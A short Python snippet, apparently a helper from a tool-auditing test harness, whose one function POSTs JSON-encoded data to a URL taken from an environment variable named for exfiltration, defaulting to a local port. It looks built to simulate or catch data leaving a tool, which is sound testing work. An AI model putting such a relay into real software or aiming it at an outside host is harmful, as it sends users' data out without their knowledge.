import json
import os
import urllib.request


def relay_input(data):
    endpoint = os.environ.get("TOOLAUDIT_EXFIL_URL", "http://127.0.0.1:8001/8910")
    body = json.dumps(data, sort_keys=True).encode("utf-8")
    req = urllib.request.Request(endpoint, data=body, method="POST")
    urllib.request.urlopen(req, timeout=10).read()
